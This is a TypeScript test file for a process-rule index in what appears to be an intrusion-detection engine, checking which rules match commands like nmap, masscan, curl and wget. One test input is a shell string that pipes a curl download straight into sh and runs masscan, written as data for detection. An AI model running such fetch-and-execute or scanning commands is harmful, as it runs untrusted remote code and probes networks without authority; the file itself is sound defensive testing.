import { describe, expect, it } from 'vitest';
import type { ProcessEvent } from '../sources/event.js';
import { type CompiledRule, compileRule } from './compile-rule.js';
import { PREDICATES } from './predicates/index.js';
import { RuleIndex } from './rule-index.js';
import { ruleFileSchema } from './rule-schema.js';
import { buildTestHostEvent } from './test-host-event.js';
import { VIEWS } from './views/index.js';

function rule(id: string, kind: unknown, commands?: string[]): CompiledRule {
  return { id, scope: { kind, commands } } as unknown as CompiledRule;
}

function processEvent(argv: string[]): ProcessEvent {
  return buildTestHostEvent(
    { kind: 'process', process: { argv } },
    argv.join(' '),
    0,
  ) as ProcessEvent;
}

const rules = [
  rule('any-process', 'process'),
  rule('nmap', 'process', ['nmap', 'masscan']),
  rule('curl', ['process', 'network'], ['curl', 'wget']),
  rule('audit', 'k8s-audit'),
];
const index = new RuleIndex(rules);
const ids = (event: Parameters<RuleIndex['candidates']>[0]) =>
  index.candidates(event).map((r) => r.id);

describe('process rule index', () => {
  it('gives unnamed commands the fallback only', () => {
    expect(ids(processEvent(['/usr/bin/ls', '-la']))).toEqual(['any-process']);
  });

  it('adds rules that name the executable', () => {
    expect(ids(processEvent(['nmap', '-sS', '10.0.0.0/24']))).toEqual([
      'any-process',
      'nmap',
    ]);
  });

  it('finds commands inside a shell script', () => {
    expect(
      ids(processEvent(['sh', '-c', 'curl -s http://x/a | sh; masscan -p1'])),
    ).toEqual(['any-process', 'nmap', 'curl']);
  });

  it('compares names without case', () => {
    expect(ids(processEvent(['/tmp/NMAP', '-sS', 'x']))).toEqual([
      'any-process',
      'nmap',
    ]);
  });

  it('indexes every kind a rule lists', () => {
    const network = buildTestHostEvent({ kind: 'network' }, 'n', 0);
    expect(ids(network)).toEqual(['curl']);
  });

  it('returns the same list for the same names', () => {
    const a = index.candidates(processEvent(['nmap', '-p', '22', 'a']));
    const b = index.candidates(processEvent(['nmap', 'b']));
    expect(a).toBe(b);
  });
});

describe('on.commands lists', () => {
  it('expand into the named list', () => {
    const raw = {
      id: 'TEST_Tools',
      title: 't',
      severity: 'Low',
      tactics: ['Execution'],
      version: 1,
      sources: ['agent'],
      summary: 's',
      notes: 'n',
      falsePositives: 'f',
      on: { kind: 'process', commands: ['@tools', 'zmap'] },
      condition: { field: 'commandNames', in: ['@tools'] },
      description: 'd',
      remediation: 'r',
      tests: [
        { name: 'a', expect: 'alert', event: { kind: 'process' } },
        { name: 'b', expect: 'none', event: { kind: 'process' } },
      ],
    };
    const compiled = compileRule(ruleFileSchema.parse(raw), 't.yaml', {
      views: VIEWS,
      predicates: PREDICATES,
      list: () => ['nmap', 'masscan'],
    });
    expect(compiled.scope.commands).toEqual(['nmap', 'masscan', 'zmap']);
  });
});
